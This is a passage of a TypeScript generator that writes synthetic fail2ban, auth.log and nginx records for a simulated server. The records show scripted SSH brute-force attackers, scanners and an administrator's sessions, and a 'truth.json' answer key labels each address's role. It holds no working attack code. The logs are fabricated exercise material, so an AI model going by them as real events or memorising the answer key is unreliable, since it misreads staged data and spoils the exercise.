  }

  /** Emits Unban lines due at or before t. */
  advance(t: number): void {
    for (;;) {
      const next = this.unbans.peek();
      if (next === undefined || next.t > t) return;
      this.unbans.pop();
      const ban = next.ban;
      const jail = this.jails.get(ban.jail)!;
      if (jail.active.get(ban.ip) !== ban) continue;
      jail.active.delete(ban.ip);
      if (this.running) {
        this.log(next.t, "fail2ban.actions", "NOTICE", `[${ban.jail}] Unban ${ban.ip}`);
      }
    }
  }

  /** True when the jail's firewall rule drops traffic from ip at time t. */
  isBlocked(jail: JailName, ip: string, t: number): boolean {
    const ban = this.jails.get(jail)?.active.get(ip);
    return ban !== undefined && this.running && ban.from <= t && t < ban.until;
  }

  private createJail(t: number, name: JailName): number {
    const cfg = JAILS[name];
    const path = JAIL_LOG_PATHS[name];
    const step = () => (t += 1 + this.rng.int(6));
    this.log(step(), "fail2ban.jail", "INFO", `Creating new jail '${name}'`);
    this.log(step(), "fail2ban.jail", "INFO", `Jail '${name}' uses pyinotify {}`);
    this.log(step(), "fail2ban.jail", "INFO", "Initiated 'pyinotify' backend");
    this.log(step(), "fail2ban.filter", "INFO", "  maxLines: 1");
    this.log(t += 15 + this.rng.int(20), "fail2ban.filter", "INFO", `  maxRetry: ${cfg.maxRetry}`);
    this.log(step(), "fail2ban.filter", "INFO", `  findtime: ${cfg.findTime / 1000}`);
    this.log(step(), "fail2ban.actions", "INFO", `  banTime: ${cfg.banTime / 1000}`);
    this.log(step(), "fail2ban.filter", "INFO", "  encoding: UTF-8");
    let hash = "";
    for (let i = 0; i < 32; i++) hash += "0123456789abcdef"[this.rng.int(16)];
    const pos = name === "sshd" && this.version !== "1.0.2" ? 1_000_000 + this.rng.int(900_000) : 0;
    this.log(
      step(),
      "fail2ban.filter",
      "INFO",
      `Added logfile: '${path}' (pos = ${pos}, hash = ${hash})`,
    );
    if (!this.jails.has(name)) {
      this.jails.set(name, {
        name,
        logPath: path,
        failures: new Map(),
        whileBanned: new Map(),
        active: new Map(),
        history: new Map(),
      });
    }
    return t;
  }

  /** Server start with its jails; restores bans that are still running. */
  start(
    t: number,
    pid: number,
    version: string,
    jails: readonly JailName[],
    firstStart: boolean,
  ): void {
    this.pid = pid;
    this.version = version;
    this.advance(t);
    const step = () => (t += 1 + this.rng.int(8));
    this.log(t, "fail2ban.server", "INFO", "-".repeat(50));
    this.log(step(), "fail2ban.server", "INFO", `Starting Fail2ban v${version}`);
    this.log(step(), "fail2ban.observer", "INFO", "Observer start...");
    this.log(
      t += 5 + this.rng.int(20),
      "fail2ban.database",
      "INFO",
      "Connected to fail2ban persistent database '/var/lib/fail2ban/fail2ban.sqlite3'",
    );
    if (firstStart) {
      this.log(step(), "fail2ban.database", "WARNING", "New database created. Version '4'");
    }
    for (const name of jails) t = this.createJail(t, name);
    this.running = true;
    for (const name of jails) this.log(step(), "fail2ban.jail", "INFO", `Jail '${name}' started`);
    for (const name of jails) {
      const jail = this.jails.get(name)!;
      jail.failures.clear();
      jail.whileBanned.clear();
      for (const ban of jail.active.values()) {
        this.log(
          t += 20 + this.rng.int(60),
          "fail2ban.actions",
          "NOTICE",
          `[${name}] Restore Ban ${ban.ip}`,
        );
      }
      this.replay(name, t);
    }
  }

  /** `fail2ban-client reload` that adds a jail. */
  reloadAdding(t: number, added: JailName): void {
    this.advance(t);
    this.log(t, "fail2ban.server", "INFO", "Reload all jails");
    const existing = [...this.jails.keys()];
    for (const name of existing) {
      this.log(t += 2 + this.rng.int(5), "fail2ban.jail", "INFO", `Reload jail '${name}'`);
    }
    t = this.createJail(t + 3, added);
    for (const name of existing) {
      this.log(t += 2 + this.rng.int(5), "fail2ban.jail", "INFO", `Jail '${name}' reloaded`);
    }
    this.log(t += 2 + this.rng.int(5), "fail2ban.jail", "INFO", `Jail '${added}' started`);
    this.replay(added, t);
  }

  /** Server stop (the firewall chains are flushed; no Unban lines). */
  stop(t: number): void {
    this.advance(t);
    const step = () => (t += 1 + this.rng.int(15));
    this.log(t, "fail2ban.server", "INFO", "Shutdown in progress...");
    this.log(step(), "fail2ban.observer", "INFO", "Observer stop ... try to end queue 5 seconds");
    this.log(t += 20, "fail2ban.observer", "INFO", "Observer stopped, 0 events remaining.");
    this.log(t += 40, "fail2ban.server", "INFO", "Stopping all jails");
    for (const jail of this.jails.values()) {
      this.log(step(), "fail2ban.filter", "INFO", `Removed logfile: '${jail.logPath}'`);
      this.log(
        t += 60 + this.rng.int(80),
        "fail2ban.actions",
        "NOTICE",
        `[${jail.name}] Flush ticket(s) with iptables-multiport`,
      );
      this.log(step(), "fail2ban.jail", "INFO", `Jail '${jail.name}' stopped`);
    }
    this.log(step(), "fail2ban.database", "INFO", "Connection to database closed.");
    this.log(step(), "fail2ban.server", "INFO", "Exiting Fail2ban");
    this.running = false;
  }

  /** logrotate's `fail2ban-client flushlogs` and the filters noticing rotated logs. */
  rollover(t: number, rotated: readonly JailName[]): void {
    this.advance(t);
    this.log(t, "fail2ban.server", "INFO", "rollover performed on /var/log/fail2ban.log");
    for (const name of rotated) {
      const jail = this.jails.get(name);
      if (jail === undefined) continue;
      this.log(
        t += 1500 + this.rng.int(800),
        "fail2ban.filter",
        "INFO",
        `Log rotation detected for ${jail.logPath}`,
      );
    }
  }

  /** A failure line at tLine (ms) for ip, read by the jail. */
  failure(name: JailName, ip: string, tLine: number, seenAt = tLine): void {
    const jail = this.jails.get(name);
    if (jail === undefined) {
      const list = this.pending.get(name) ?? [];
      list.push({ t: tLine, ip });
      this.pending.set(name, list);
      return;
    }
    if (!this.running) return;
    this.advance(seenAt);
    const cfg = JAILS[name];
    const tFail = Math.floor(tLine / 1000) * 1000;
    const tLog = this.log(
      seenAt + 30 + this.rng.int(500),
      "fail2ban.filter",
      "INFO",
      `[${name}] Found ${ip} - ${this.foundClock.get(tFail)}`,
    );
    const banned = jail.active.get(ip);
    const list = (banned !== undefined ? jail.whileBanned : jail.failures).get(ip) ?? [];
    list.push(tFail);
    while (list.length > 0 && list[0] < tFail - cfg.findTime) list.shift();
    if (list.length < cfg.maxRetry) {
      (banned !== undefined ? jail.whileBanned : jail.failures).set(ip, list);
      return;
    }
    if (banned !== undefined) {
      jail.whileBanned.delete(ip);
      this.log(
        tLog + 5 + this.rng.int(300),
        "fail2ban.actions",
        "NOTICE",
        `[${name}] ${ip} already banned`,
      );
      return;
    }
    jail.failures.delete(ip);
    this.ban(jail, ip, tFail, tLog + 10 + this.rng.int(700));
  }

  private ban(jail: JailState, ip: string, tFail: number, tBan: number): void {
    const cfg = JAILS[jail.name];
    const seen = jail.history.get(ip);
    const count = seen !== undefined && tBan - seen.last <= DAY ? seen.count + 1 : 1;
    jail.history.set(ip, { count, last: tBan });
    const banTime = count === 1
      ? cfg.banTime
      : Math.min(cfg.banTime * 2 ** (count - 1), cfg.maxTime);
    tBan = this.log(tBan, "fail2ban.actions", "NOTICE", `[${jail.name}] Ban ${ip}`);
    if (count > 1) {
      this.log(
        tBan + 2 + this.rng.int(40),
        "fail2ban.observer",
        "NOTICE",
        `[${jail.name}] Increase Ban ${ip} (${count} # ${pythonTimedelta(banTime / 1000)} -> ${
          isoSeconds(tFail + banTime)
        })`,
      );
    }
    const until = Math.max(tFail + banTime + 100 + this.rng.int(900), tBan + 2 * SECOND);
    const record: BanRecord = { jail: jail.name, ip, from: tBan, until, count };
    this.bans.push(record);
    jail.active.set(ip, record);
    this.unbans.push({ t: until, ban: record });
    this.onBan?.(record);
  }

  /** Failures logged before the jail existed: those within findtime are read at start. */
  private replay(name: JailName, t: number): void {
    const list = this.pending.get(name);
    if (list === undefined) return;
    this.pending.delete(name);
    const findTime = JAILS[name].findTime;
    let seen = t + 200;
    for (const f of list) {
      if (f.t >= t - findTime) this.failure(name, f.ip, f.t, seen += 30 + this.rng.int(120));
    }
  }

  /** A mail action that fails with a Python traceback (one multi-line record). */
  mailError(t: number, ban: BanRecord): void {
    const fid = `0x7f${(0x3a1c2b000 + this.rng.int(0xfffff)).toString(16)}`;
    const message = [
      `Failed to execute ban jail '${ban.jail}' action 'smtp' info 'ActionInfo({'ip': '${ban.ip}', 'family': 'inet4', 'fid': <function Actions.ActionInfo.<lambda> at ${fid}>, 'raw-ticket': <function Actions.ActionInfo.<lambda> at ${fid}e0>})': [Errno 111] Connection refused`,
      "Traceback (most recent call last):",
      '  File "/usr/lib/python3/dist-packages/fail2ban/server/actions.py", line 528, in __checkBan',
      "    action.ban(aInfo)",
      '  File "/etc/fail2ban/action.d/smtp.py", line 253, in ban',
      '    self._sendMessage(self.message["ban"], aInfo)',
      '  File "/etc/fail2ban/action.d/smtp.py", line 155, in _sendMessage',
      "    smtp.connect(self.host)",
      '  File "/usr/lib/python3.11/smtplib.py", line 341, in connect',
      "    self.sock = self._get_socket(host, port, self.timeout)",
      "                ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
      '  File "/usr/lib/python3.11/smtplib.py", line 312, in _get_socket',
      "    return socket.create_connection((host, port), timeout,",
      "           ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^",
      '  File "/usr/lib/python3.11/socket.py", line 851, in create_connection',
      "    raise exceptions[0]",
      '  File "/usr/lib/python3.11/socket.py", line 836, in create_connection',
      "    sock.connect(sa)",
      "ConnectionRefusedError: [Errno 111] Connection refused",
    ].join("\n");
    this.log(t, "fail2ban.actions", "ERROR", message);
  }
}

// ---------------------------------------------------------------------------
// The sample scenario
// ---------------------------------------------------------------------------

/** One log record: a line (or a multi-line record such as a traceback) at time t. */
interface LogRecord {
  t: number;
  seq: number;
  text: string;
}

/** Records of one log, sorted by time when the scenario is done. */
class RecordLog {
  readonly records: LogRecord[] = [];
  private seq = 0;
  add(t: number, text: string): void {
    this.records.push({ t, seq: this.seq++, text });
  }
  sorted(): LogRecord[] {
    return this.records.sort((a, b) => a.t - b.t || a.seq - b.seq);
  }
}

/** What an address did in the sample, for `truth.json`. */
export interface TruthHost {
  /** The address, normalised. */
  ip: string;
  /** Country of the prefix it was drawn from (see {@linkcode NETWORKS}). */
  country: string;
  /** Operator of that prefix. */
  network: string;
  /** `admin`, `false-positive`, an attack style, `web-scanner`, `visitor`, `crawler`, … */
  role: string;
  /** /24 (or /64) group label when the address belongs to a coordinated group. */
  group?: string;
}

interface PendingFailure {
  t: number;
  jail: JailName;
  ip: string;
}

interface ScheduledEvent {
  t: number;
  run: () => void;
}

/** The whole sample scenario: plans events, runs them in time order, keeps the records. */
class SampleScenario {
  readonly auth = new RecordLog();
  readonly fail2ban = new RecordLog();
  readonly access = new RecordLog();
  readonly error = new RecordLog();
  readonly truth = new Map<string, TruthHost>();
  readonly sim: Fail2banSim;
  readonly book: AddressBook;
  readonly pids: PidCounter;
  readonly facts: Record<string, unknown> = {};
  /** nginx connection counter (`*N` in error.log); restarts with nginx. */
  readonly web = { connection: 0, restarted: false };
  readonly webOut: WebOut = {
    access: (t, line) => this.access.add(t, line),
    error: (t, line) => this.error.add(t, line),
    authFailure: (t, ip) => this.fail(t, "nginx-http-auth", ip),
    connection: (t) => {
      if (t >= TIMELINE.rebootStart && !this.web.restarted) {
        this.web.restarted = true;
        this.web.connection = 0;
      }
      return ++this.web.connection;
    },
  };
  private readonly events = new MinHeap<ScheduledEvent>();
  private readonly failures = new MinHeap<PendingFailure>();
  private readonly run: Random;
  readonly authOut: AuthOut;

  constructor(readonly rng: Random, readonly homeCountry: string) {
    this.book = new AddressBook(homeCountry);
    this.run = rng.fork("run");
    this.pids = new PidCounter(1100, rng.fork("pids"));
    this.sim = new Fail2banSim(
      (t, logger, level, message) =>
        this.fail2ban.add(t, fail2banLine(t, logger, this.sim.pid, level, message)),
      rng.fork("fail2ban"),
    );
    this.authOut = {
      line: (t, tag, message) => this.syslog(t, tag, message),
      failure: (t, ip) => this.failures.push({ t, jail: "sshd", ip }),
    };
  }

  /** One auth.log line. */
  syslog(t: number, tag: string, message: string): void {
    this.auth.add(t, `${syslogStamp(t)} ${SAMPLE_HOST} ${tag}: ${message}`);
  }

  /** A failure for a jail (read by fail2ban in time order). */
  fail(t: number, jail: JailName, ip: string): void {
    this.failures.push({ t, jail, ip });
  }

  at(t: number, run: () => void): void {
    this.events.push({ t, run });
  }

  note(host: Host, role: string, group?: string): void {
    if (!this.truth.has(host.ip)) {
      this.truth.set(host.ip, {
        ip: host.ip,
        country: host.net.country,
        network: host.net.name,
        role,
        ...(group === undefined ? {} : { group }),
      });
    }
  }

  /** Runs every event in time order, feeding failures to fail2ban as their lines are written. */
  execute(): void {
    for (;;) {
      const next = this.events.pop();
      const until = next === undefined ? Infinity : next.t;
      this.drain(until);
      if (next === undefined) break;
      next.run();
    }
  }

  private drain(until: number): void {
    for (;;) {
      const f = this.failures.peek();
      if (f === undefined || f.t > until) break;
      this.failures.pop();
      this.sim.failure(f.jail, f.ip, f.t);
    }
    this.sim.advance(until === Infinity ? TIMELINE.end + DAY : until);
  }

  /** An attack connection at t unless the firewall (or the outage) drops it. */
  sshAttack(a: SshAttacker, t: number): void {
    this.at(t, () => {
      if (t < TIMELINE.provisioned + 4 * MINUTE || t > TIMELINE.end - MINUTE) return;
      if (inOutage(t) || inReboot(t) || this.sim.isBlocked("sshd", a.host.ip, t)) return;
      const tag = `${sshProgram(t)}[${this.pids.take()}]`;
      attackSession(this.authOut, this.run, a, t, tag, t >= TIMELINE.rebootStart);
    });
  }
}

interface Window {
  start: number;
  end: number;
  perHour: number;
}

function newAttacker(
  host: Host,
  style: Style,
  names: readonly string[],
  rng: Random,
): SshAttacker {
  return {
    host,
    style,
    names,
    cursor: rng.int(names.length),
    method: style !== "slow" && rng.chance(0.08) ? "keyboard-interactive/pam" : "password",
    rdns: rng.chance(0.06) ? reverseName(host.ip, host.net) : undefined,
  };
}

function scheduleWindows(
  s: SampleScenario,
  rng: Random,
  a: SshAttacker,
  windows: readonly Window[],
  parallel = 1,
) {
  for (const w of windows) {
    for (const t of arrivals(rng, w.start, w.end, w.perHour, attackIntensity)) {
      s.sshAttack(a, t);
      for (let p = 1; p < parallel; p++) s.sshAttack(a, t + rng.int(4000));
    }
  }
}

function randomWindows(rng: Random, count: number, meanHours: number, perHour: number): Window[] {
  const out: Window[] = [];
  const span = TIMELINE.end - TIMELINE.provisioned - 2 * HOUR;
  for (let i = 0; i < count; i++) {
    const start = TIMELINE.provisioned + HOUR + rng.int(span);
    const hours = Math.min(48, Math.max(0.5, rng.exponential(meanHours)));
    out.push({ start, end: Math.min(TIMELINE.end, start + hours * HOUR), perHour });
  }
  return out;
}

const STYLES: readonly Style[] = ["root", "dictionary", "mixed", "keyprobe", "kex"];
const STYLE_WEIGHTS = [0.2, 0.22, 0.16, 0.18, 0.24];

function dictionaryFor(rng: Random): string[] {
  const list = rng.shuffled(USERNAMES).slice(0, 30 + rng.int(60));
  return list.map((name) => (rng.chance(0.04) ? name + rng.between(1, 9) : name));
}

/** Plans every sshd attacker of the sample. */
function planSshAttackers(s: SampleScenario): void {
  const rng = s.rng.fork("ssh");
  const d = (iso: string) => Date.parse(iso);

  // Heavy hitters.
  const h1 = newAttacker(s.book.inPrefix("218.92.0.0/24", rng), "root", ["root"], rng);
  h1.method = "password";
  s.note(h1.host, "root", "218.92.0.0/24");
  scheduleWindows(s, rng, h1, [
    { start: TIMELINE.provisioned + 14 * MINUTE, end: d("2026-11-02T20:00:00Z"), perHour: 24 },
    { start: d("2026-11-05T02:00:00Z"), end: d("2026-11-07T12:00:00Z"), perHour: 24 },
    { start: d("2026-11-13T18:00:00Z"), end: d("2026-11-15T06:00:00Z"), perHour: 24 },
  ], 2);
  const h2 = newAttacker(s.book.inPrefix("61.177.172.0/24", rng), "root", ["root"], rng);
  h2.method = "password";
  s.note(h2.host, "root", "61.177.172.0/24");
  scheduleWindows(s, rng, h2, [
    { start: d("2026-11-09T04:00:00Z"), end: d("2026-11-10T14:00:00Z"), perHour: 20 },
    { start: d("2026-11-17T00:00:00Z"), end: d("2026-11-18T10:00:00Z"), perHour: 20 },
  ]);
  const h3 = newAttacker(s.book.named("DigitalOcean", rng), "keyprobe", ["root"], rng);
  s.note(h3.host, "keyprobe");
  scheduleWindows(s, rng, h3, [
    { start: d("2026-11-02T00:00:00Z"), end: d("2026-11-08T20:00:00Z"), perHour: 26 },
    { start: d("2026-11-12T14:00:00Z"), end: d("2026-11-14T08:00:00Z"), perHour: 18 },
  ]);
  const h7 = newAttacker(
    s.book.take(PREFIXES.find((p) => p.net.cidr === "2a01:4f8::/32")!, rng),
    "keyprobe",
    ["root"],
    rng,
  );
  s.note(h7.host, "keyprobe");
  scheduleWindows(s, rng, h7, [
    { start: d("2026-11-16T09:00:00Z"), end: d("2026-11-20T21:00:00Z"), perHour: 12 },
  ]);
  const h4 = newAttacker(s.book.inPrefix("2.57.122.0/24", rng), "slow", dictionaryFor(rng), rng);
  h4.method = "password";
  s.note(h4.host, "slow", "2.57.122.0/24");
  for (let t = d("2026-11-15T06:00:00Z"); t < d("2026-11-16T12:00:00Z");) {
    s.sshAttack(h4, t);
    t += 5.5 * MINUTE + rng.int(3.5 * MINUTE);
  }

  // Groups of attackers in one /24.
  const groups: readonly [
    cidr: string,
    anchor: SshAttacker | undefined,
    size: number,
    style: Style,
  ][] = [
    ["218.92.0.0/24", h1, 7, "root"],
    ["61.177.172.0/24", h2, 4, "root"],
    ["180.101.88.0/24", undefined, 4, "mixed"],
    ["2.57.122.0/24", h4, 4, "dictionary"],
    ["45.148.10.0/24", undefined, 4, "dictionary"],
    ["193.32.162.0/24", undefined, 3, "kex"],
    ["80.94.92.0/24", undefined, 3, "mixed"],
    ["92.118.39.0/24", undefined, 3, "keyprobe"],
    ["141.98.10.0/24", undefined, 3, "root"],
    ["183.81.169.0/24", undefined, 3, "dictionary"],
    ["45.95.147.0/24", undefined, 2, "mixed"],
  ];
  for (const [cidr, anchor, size, style] of groups) {
    const names = dictionaryFor(rng);
    const windows = randomWindows(rng, 1 + rng.int(2), 8, 1 + rng.int(3));
    for (let i = 0; i < size; i++) {
      const host = anchor !== undefined
        ? s.book.neighbour(anchor.host, rng)
        : s.book.inPrefix(cidr, rng);
      const a = newAttacker(host, style, names, rng);
      s.note(host, style, cidr);
      scheduleWindows(s, rng, a, windows.map((w) => ({ ...w, start: w.start + rng.int(HOUR) })));
    }
  }

  // A medium population with a few busy windows each.
  for (let i = 0; i < 38; i++) {
    const host = s.book.attacker(rng);
    const style = rng.weighted(STYLES, STYLE_WEIGHTS);
    const a = newAttacker(host, style, dictionaryFor(rng), rng);
    s.note(host, style);
    const perHour = Math.min(12, rng.pareto(1, 1.3));
    scheduleWindows(s, rng, a, randomWindows(rng, 1 + rng.int(3), 6, perHour));
  }

  // Distributed dictionary campaigns: many addresses, a handful of tries each, one shared list.
  const campaigns = [
    { start: d("2026-11-01T20:00:00Z"), hours: 30, size: 80 },
    { start: d("2026-11-06T03:00:00Z"), hours: 18, size: 60 },
    { start: d("2026-11-13T08:00:00Z"), hours: 26, size: 75 },
    { start: d("2026-11-18T15:00:00Z"), hours: 20, size: 70 },
  ];
  for (const [index, c] of campaigns.entries()) {
    const names = rng.shuffled(USERNAMES).slice(0, 90);
    const shared = { cursor: 0 };
    for (let i = 0; i < c.size; i++) {
      const host = s.book.attacker(rng);
      const a = newAttacker(host, "dictionary", names, rng);
      s.note(host, "campaign", `campaign-${index + 1}`);
      let sessions = 1;
      while (sessions < 6 && rng.chance(0.45)) sessions++;
      for (let k = 0; k < sessions; k++) {
        let t = c.start + rng.int(c.hours * HOUR);
        while (rng.float() * 1.5 > attackIntensity(t)) t = c.start + rng.int(c.hours * HOUR);
        s.at(t, () => {
          a.cursor = shared.cursor++;
        });
        s.sshAttack(a, t);
      }
    }
  }

  // Internet-wide scanners: key exchange only.
  for (
    const cidr of [
      "167.94.138.0/24",
      "162.142.125.0/24",
      "206.168.34.0/24",
      "71.6.146.0/24",
      "198.20.69.0/24",
    ]
  ) {
    for (let i = 0; i < (cidr.startsWith("71.") || cidr.startsWith("198.") ? 1 : 2); i++) {
      const host = s.book.inPrefix(cidr, rng);
      const a = newAttacker(host, "kex", ["root"], rng);
      s.note(host, "kex");
      for (let k = 0; k < 2 + rng.int(6); k++) {
        s.sshAttack(
          a,
          TIMELINE.provisioned + HOUR + rng.int(TIMELINE.end - TIMELINE.provisioned - 2 * HOUR),
        );
      }
    }
  }

  // Bots that connect and leave before authenticating (banner grabbers, old clients).
  for (let i = 0; i < 80; i++) {
    const host = s.book.attacker(rng, ["hosting"]);
    const a = newAttacker(host, "kex", ["root"], rng);
    s.note(host, "kex");
    const sessions = Math.min(150, Math.floor(rng.pareto(5, 1.1)));
    for (let k = 0; k < sessions; k++) {
      s.sshAttack(
        a,
        TIMELINE.provisioned + HOUR + rng.int(TIMELINE.end - TIMELINE.provisioned - 2 * HOUR),
      );
    }
  }

  // A burst right before the upgrade reboot, so that fail2ban has bans to restore.
  const early = newAttacker(s.book.attacker(rng, ["hosting"]), "root", ["root"], rng);
  early.method = "password";
  s.note(early.host, "root");
  scheduleWindows(s, rng, early, [{
    start: d("2026-11-12T06:18:00Z"),
    end: TIMELINE.rebootStop,
    perHour: 40,
  }], 2);
  const late = newAttacker(s.book.attacker(rng, ["isp"]), "root", ["root"], rng);
  late.method = "password";
  s.note(late.host, "root");
  for (let t = d("2026-11-12T06:45:10Z"); t < TIMELINE.rebootStop - 20 * SECOND; t += 40 * SECOND) {
    s.sshAttack(late, t + rng.int(5000));
  }

  // IPv6 attackers.
  const v6Prefixes = PREFIXES.filter((p) => p.v6 && p.net.name !== "Deutsche Telekom");
  for (let i = 0; i < 13; i++) {
    const prefix = v6Prefixes[i % v6Prefixes.length];
    const host = s.book.take(prefix, rng);
    const style = rng.weighted(STYLES, STYLE_WEIGHTS);
    const a = newAttacker(host, style, dictionaryFor(rng), rng);
    s.note(host, style);
    scheduleWindows(s, rng, a, randomWindows(rng, 1 + rng.int(2), 5, 1 + rng.int(4)));
  }

  // Attackers from the administrator's own country.
  const home = s.homeCountry;
  const homeHosting = s.book.prefixes(home, ["hosting"]);
  const homeIsp = s.book.prefixes(home, ["isp"]);
  const h5 = newAttacker(
    s.book.take(rng.pick(homeHosting.length > 0 ? homeHosting : homeIsp), rng),
    "dictionary",
    dictionaryFor(rng),
    rng,
  );
  s.note(h5.host, "dictionary");
  scheduleWindows(s, rng, h5, [{
    start: d("2026-11-04T13:00:00Z"),
    end: d("2026-11-05T01:00:00Z"),
    perHour: 4,
  }]);
  const h6 = newAttacker(s.book.take(rng.pick(homeIsp), rng), "root", ["root"], rng);
  s.note(h6.host, "root");
  scheduleWindows(s, rng, h6, [{
    start: d("2026-11-16T20:00:00Z"),
    end: d("2026-11-17T03:00:00Z"),
    perHour: 3,
  }]);

  // Hostile user names, once each, from short-lived bots.
  const hostileTimes = [
    "2026-11-03T14:22:09Z",
    "2026-11-09T02:10:41Z",
    "2026-11-13T21:47:03Z",
    "2026-11-16T08:05:52Z",
    "2026-11-18T11:30:17Z",
  ];
  for (const [i, name] of HOSTILE_USERNAMES.entries()) {
    const host = s.book.attacker(rng, ["hosting"]);
    s.note(host, "dictionary");
    const a = newAttacker(host, "dictionary", [name, "admin", "test"], rng);
    a.cursor = 0;
    a.method = "password";
    a.rdns = undefined;
    const t = d(hostileTimes[i]);
    s.sshAttack(a, t);
    s.sshAttack(a, t + 40 * SECOND + rng.int(20 * SECOND));
  }

  // MaxStartups throttling during a burst, and OpenSSH 9.8+ penalties after the upgrade.
  const burst = d("2026-11-05T02:03:11Z");
  s.at(burst, () => {
    const tag = "sshd[694]";
    s.syslog(burst, tag, "error: beginning MaxStartups throttling");
    let t = burst;
    for (let i = 0; i < 4; i++) {
      t += 3000 + rng.int(15000);
      s.syslog(
        t,
        tag,
        `drop connection #${10 + rng.int(4)} from [${h1.host.ip}]:${
          randomPort(rng)
        } on [${SERVER_IP}]:22 past MaxStartups`,
      );
    }
    s.syslog(
      t + 40 * SECOND,
      tag,
      `exited MaxStartups throttling after 00:01:${pad2(10 + rng.int(40))}, 23 connections dropped`,
    );
  });
  for (let i = 0; i < 6; i++) {
    const t = d("2026-11-17T01:00:00Z") + rng.int(8 * HOUR);
    s.at(t, () => {
      if (s.sim.isBlocked("sshd", h2.host.ip, t)) return;
      s.syslog(
        t,
        "sshd[701]",
        `drop connection #0 from [${h2.host.ip}]:${
          randomPort(rng)
        } on [${SERVER_IP}]:22 penalty: failed authentication`,
      );
    });
  }
}

// ---------------------------------------------------------------------------
// The administrator, cron and the system
// ---------------------------------------------------------------------------

interface AdminKey {
  type: string;
  fingerprint: string;
}

/** Per-boot state of systemd-logind and sshd's listener. */
interface BootState {
  logindPid: number;
  sshdPid: number;
  nextSession: number;
}

const SUDO_COMMANDS = [
  "/usr/bin/fail2ban-client status sshd",
  "/usr/bin/tail -n 50 /var/log/auth.log",
  "/usr/bin/less /var/log/fail2ban.log",
  "/usr/bin/apt update",
  "/usr/bin/apt upgrade",
  "/usr/bin/journalctl -u fail2ban --since today",
  "/usr/bin/systemctl status nginx",
  "/usr/sbin/nginx -t",
  "/usr/bin/systemctl reload nginx",
  "/usr/bin/du -sh /var/log",
];

class AdminPlan {
  private readonly boot: BootState = { logindPid: 612, sshdPid: 694, nextSession: 1 };

  constructor(private readonly s: SampleScenario, private readonly rng: Random) {}

  /** A successful login; sudo commands spread over the session; logout after `minutes`. */
  session(
    t: number,
    host: Host,
    user: string,
    key: AdminKey,
    minutes: number,
    commands: readonly (string | readonly [command: string, at: number])[],
    options: { cutByReboot?: boolean } = {},
  ): void {
    const s = this.s;
    const rng = this.rng;
    s.at(t, () => {
      const prog = sshProgram(t);
      const pid = s.pids.take(3);
      const tag = `${prog}[${pid}]`;
      const port = randomPort(rng);
      const uid = user === "root" ? 0 : 1000;
      const session = this.boot.nextSession++;
      const logind = `systemd-logind[${this.boot.logindPid}]`;
      let now = t;
      s.syslog(
        now,
        tag,
        `Accepted publickey for ${user} from ${host.ip} port ${port} ssh2: ${key.type} ${key.fingerprint}`,
      );
      s.syslog(
        now,
        tag,
        `pam_unix(sshd:session): session opened for user ${user}(uid=${uid}) by (uid=0)`,
      );
      s.syslog(now, logind, `New session ${session} of user ${user}.`);
      s.syslog(
        now + 40,
        `systemd[${s.pids.take(1)}]`,
        `pam_unix(systemd-user:session): session opened for user ${user}(uid=${uid}) by (uid=0)`,
      );
      const end = t + minutes * MINUTE;
      for (const item of commands) {
        let command: string;
        if (typeof item === "string") {
          command = item;
          now += 20 * SECOND + rng.int(Math.max(1, (end - now) / (commands.length + 1)));
        } else [command, now] = item;
        if (user === "root") continue;
        s.syslog(
          now,
          "sudo",
          `   admin : TTY=pts/0 ; PWD=/home/admin ; USER=root ; COMMAND=${command}`,
        );
        s.syslog(
          now,
          "sudo",
          "pam_unix(sudo:session): session opened for user root(uid=0) by admin(uid=1000)",
        );
        s.syslog(
          now + 300 + rng.int(20000),
          "sudo",
          "pam_unix(sudo:session): session closed for user root",
        );
      }
      if (options.cutByReboot) {
        s.syslog(end, tag, `pam_unix(sshd:session): session closed for user ${user}`);
        return;
      }
      const child = `${prog}[${pid + 2}]`;
      s.syslog(
        end,
        child,
        `Received disconnect from ${host.ip} port ${port}:11: disconnected by user`,
      );
      s.syslog(end, child, `Disconnected from user ${user} ${host.ip} port ${port}`);
      s.syslog(end, tag, `pam_unix(sshd:session): session closed for user ${user}`);
      s.syslog(end, logind, `Session ${session} logged out. Waiting for processes to exit.`);
      s.syslog(end + 20, logind, `Removed session ${session}.`);
    });
  }

  /** Boot lines of systemd-logind and sshd's listener. */
  bootLines(t: number, first: boolean): void {
    const s = this.s;
    s.at(t, () => {
      if (!first) {
        this.boot.logindPid = 598;
        this.boot.sshdPid = 701;
        this.boot.nextSession = 1;
        s.pids.reset(860);
      }
      const logind = `systemd-logind[${this.boot.logindPid}]`;
      s.syslog(t, logind, "New seat seat0.");
      s.syslog(t, logind, "Watching system buttons on /dev/input/event0 (Power Button)");
      s.syslog(
        t,
        logind,
        "Watching system buttons on /dev/input/event1 (AT Translated Set 2 keyboard)",
      );
      const sshd = `sshd[${this.boot.sshdPid}]`;
      s.syslog(t + 900, sshd, "Server listening on 0.0.0.0 port 22.");
      s.syslog(t + 900, sshd, "Server listening on :: port 22.");
    });
  }

  shutdownLines(t: number): void {
    const s = this.s;
    s.at(t, () => {
      const logind = `systemd-logind[${this.boot.logindPid}]`;
      s.syslog(t, logind, "The system will reboot now!");
      s.syslog(t, logind, "System is rebooting.");
      s.syslog(t + 1200, `sshd[${this.boot.sshdPid}]`, "Received signal 15; terminating.");
    });
  }
}

/** Plans the administrator, including the one banned-then-accepted address. */
function planAdmin(s: SampleScenario): void {
  const rng = s.rng.fork("admin");
  const d = (iso: string) => Date.parse(iso);
  const home = s.homeCountry;
  const isp = s.book.prefixes(home, ["isp"]);
  if (isp.length < 2) {
    throw new RangeError(
      `--home-country ${home} has too few residential networks in the address table; try DE, FR, GB, US, NL, IT, ES`,
    );
  }
  const homePrefix = rng.pick(isp);
  const homeV4 = [0, 1, 2].map(() =>
    s.book.take(rng.pick(isp.filter((p) => p.net.name === homePrefix.net.name)), rng)
  );
  const v6Prefixes = s.book.prefixes(home, ["isp"], true);
  const homeV6 = v6Prefixes.length > 0 ? s.book.take(v6Prefixes[0], rng) : undefined;
  const others = isp.filter((p) => p.net.name !== homePrefix.net.name);
  const office = s.book.take(
    others.find((p) => p.net.name.includes("DFN")) ?? rng.pick(others),
    rng,
  );
  const phonePrefix = others.find((p) => /mobile|O2/.test(p.net.name)) ?? rng.pick(others);
  const phone = s.book.take(phonePrefix, rng);
  for (const h of homeV4) s.note(h, "admin");
  if (homeV6 !== undefined) s.note(homeV6, "admin");
  s.note(office, "admin");
